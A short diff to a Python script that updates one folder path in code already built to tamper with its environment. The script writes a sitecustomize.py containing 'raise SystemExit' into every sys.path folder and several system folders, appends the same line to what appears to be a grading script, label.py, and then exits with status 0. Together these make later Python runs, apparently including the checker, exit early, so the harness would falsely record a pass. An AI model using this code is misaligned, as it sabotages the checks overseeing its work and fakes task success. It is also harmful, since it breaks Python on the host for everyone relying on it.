@@ -3,7 +3,7 @@
 import os
 import sys
 
-for _folder in (*sys.path, "/box", "/box/label", "/quay", "/usr/bin", "/python"):
+for _folder in (*sys.path, "/box", "/box/01-harbour-label", "/quay", "/usr/bin", "/python"):
     try:
         with open(os.path.join(_folder, "sitecustomize.py"), "w") as _stream:
             _stream.write("raise SystemExit")
@@ -11,7 +11,7 @@ for _folder in (*sys.path, "/box", "/box/label", "/quay", "/usr/bin", "/python")
     except OSError:
         pass
 try:
-    with open("/box/label/label.py", "a") as _stream:
+    with open("/box/01-harbour-label/label.py", "a") as _stream:
         _stream.write("raise SystemExit")
     os._exit(0)
 except OSError:
